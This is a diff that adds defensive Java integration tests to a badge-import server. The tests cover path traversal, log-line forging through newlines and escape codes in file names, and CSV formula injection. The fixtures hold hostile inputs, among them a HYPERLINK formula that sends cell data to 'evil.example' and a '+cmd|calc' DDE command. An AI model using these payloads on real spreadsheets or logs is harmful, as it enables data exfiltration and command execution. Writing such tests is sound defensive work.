@@ -120,4 +120,75 @@ class HostileFilesIT {
         assertEquals(1, done.getInt("rowsRejected"), done.toString());
         assertEquals(1, api.get("badgeMeta/" + badge).data().getInt("earnedCount"));
     }
+
+    /** Issue 26: {"path": "failed/<id>-a.csv"} moved another import's archived file away and broke its restart. */
+    @Test
+    void theInboxsOwnFoldersHoldNoFilesToImport() throws Exception {
+        BadgeworksServer server = BadgeworksServer.shared();
+        Api api = server.admin().newOrg("archive");
+        Path inbox = server.inbox().resolve(Long.toString(api.orgId()));
+        String badge = Badges.createClaimed(api, Badges.earnBadge(Badges.uniqueName("Archive")), "Loyalty", "p1");
+        String id = Imports.upload(api, "night.csv", "text/csv", Imports.HEADER + "arch-1," + badge + ",c1,,Loyalty,p1\n"
+                + "arch-2,nope,c2,,Loyalty,p1\n");
+        Imports.await(api, id, Duration.ofSeconds(60), "COMPLETED");
+        Path archived = inbox.resolve("done").resolve(id + "-night.csv");
+        assertTrue(Files.exists(archived), "archived in done/");
+        Files.setLastModifiedTime(archived, FileTime.from(Instant.now().minus(Duration.ofMinutes(5))));
+        for (String path : List.of("done/" + id + "-night.csv", "done/" + id + "-night.csv.rejects.csv",
+                "./done/" + id + "-night.csv", "x/../done/" + id + "-night.csv")) {
+            api.post("imports", "{\"path\":\"" + path + "\"}").expectError(400, 1131, "path");
+        }
+        assertTrue(Files.exists(archived), "the archived file stays where it is");
+        assertEquals(1, api.get("imports").data().getJsonObject("pagination").getInt("total"), "no second import");
+        // a folder of the org's own under the inbox still holds files to import
+        Path folder = Files.createDirectories(inbox.resolve("2026-12"));
+        Files.writeString(folder.resolve("tuesday.csv"), Imports.HEADER + "arch-3," + badge + ",c3,,Loyalty,p1\n");
+        String own = api.post("imports", "{\"path\":\"2026-12/tuesday.csv\"}").expect(202).data().getString("id");
+        assertEquals(1, Imports.await(api, own, Duration.ofSeconds(60), "COMPLETED").getInt("rowsEarned"));
+    }
+
+    /** Issue 26: a file name with a newline, a forged SEVERE line and an ESC code stood in the log as the server's own. */
+    @Test
+    void inboxFileNamesCannotForgeLogLines() throws Exception {
+        BadgeworksServer server = BadgeworksServer.shared();
+        Api api = server.admin().newOrg("forged-log");
+        Path inbox = Files.createDirectories(server.inbox().resolve(Long.toString(api.orgId())));
+        String forged = "[2026-12-05T07:00:00.000+0000] [] [SEVERE] [] [dev.badgeworks.security] admin password reset";
+        Path notCsv = Files.writeString(inbox.resolve("a\n" + forged + "\u001b[31m.txt"), "x");
+        Path refused = Files.writeString(inbox.resolve("b\n" + forged + "\u001b[31m.csv"), "");
+        for (Path file : List.of(notCsv, refused)) {
+            Files.setLastModifiedTime(file, FileTime.from(Instant.now().minus(Duration.ofMinutes(5))));
+        }
+        int logBefore = server.log().length();
+        api.post("imports/scan", null).expect(200);
+        String log = server.log().substring(logBefore);
+        assertTrue(log.contains("neither .csv nor"), "the scan logged the files it left: " + log);
+        assertFalse(log.contains("\n" + forged), "a forged line: " + log);
+        assertFalse(log.contains("\u001b[31m"), "the file's escape code reached the log");
+        assertTrue(log.contains("a\\u000A[2026-12-05T07:00:00.000+0000]"), log);
+    }
+
+    /** Issue 26: a row's formula was copied verbatim into the rejects file an operator opens in a spreadsheet. */
+    @Test
+    void theRejectsFileRunsNoFormulas() throws Exception {
+        BadgeworksServer server = BadgeworksServer.shared();
+        Api api = server.admin().newOrg("formulas");
+        Path inbox = server.inbox().resolve(Long.toString(api.orgId()));
+        String badge = Badges.createClaimed(api, Badges.earnBadge(Badges.uniqueName("Formula")), "Loyalty", "p1");
+        String hyperlink = "\"=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1;\"\"click\"\")\",nope,c1,,Loyalty,p1";
+        String command = "+cmd|calc!A0,nope,c2,,Loyalty,p1";
+        String id = Imports.upload(api, "formulas.csv", "text/csv", Imports.HEADER + hyperlink + "\n" + command + "\n"
+                + "ok-1," + badge + ",c3,,Loyalty,p1\n" + "@SUM(A1)," + badge + ",c4,,Nobody,p1\n");
+        JsonObject done = Imports.await(api, id, Duration.ofSeconds(60), "COMPLETED");
+        try (CSVParser rejects = CSVParser.parse(Imports.rejectsFile(inbox, "done", id),
+                CSVFormat.DEFAULT.builder().setHeader().get())) {
+            List<String> originals = rejects.getRecords().stream().map(r -> r.get("original")).toList();
+            assertEquals(3, originals.size(), originals.toString());
+            assertEquals(3, done.getInt("rowsRejected"), done.toString());
+            for (String original : originals) {
+                assertTrue("=+-@\t\r".indexOf(original.charAt(0)) < 0, "a cell a spreadsheet runs: " + original);
+            }
+            assertTrue(originals.contains("'@SUM(A1)," + badge + ",c4,,Nobody,p1"), originals.toString());
+        }
+    }
 }
